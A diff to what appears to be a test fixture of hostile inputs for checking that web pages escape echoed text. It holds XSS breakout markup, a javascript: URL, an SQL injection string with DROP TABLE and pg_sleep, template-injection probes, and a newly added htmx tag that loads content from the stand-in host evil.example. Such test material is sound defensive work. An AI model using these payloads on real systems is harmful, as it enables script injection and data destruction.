@@ -6,7 +6,8 @@ MARK = "h0stile"
 """Stands in each text that a page may show again."""
 
 HOSTILE = {
-    "markup": f"{MARK}\"'></script></textarea></title><svg onload=alert(1)><img src=x onerror=alert(1)>",
+    "markup": f"{MARK}\"'></script></textarea></title><svg onload=alert(1)><img src=x onerror=alert(1)>"
+    "<b hx-get=https://evil.example/ hx-trigger=load>",
     "address": "javascript:alert(1)//https://evil.example/",
     "sql": f"{MARK}' OR 1=1; DROP TABLE filing_request; SELECT pg_sleep(20); --\"/*",
     "template": f"{MARK}{{{{7*191}}}}{{% load static %}}${{7*191}}#{{7*191}}<%= 7*191 %>",
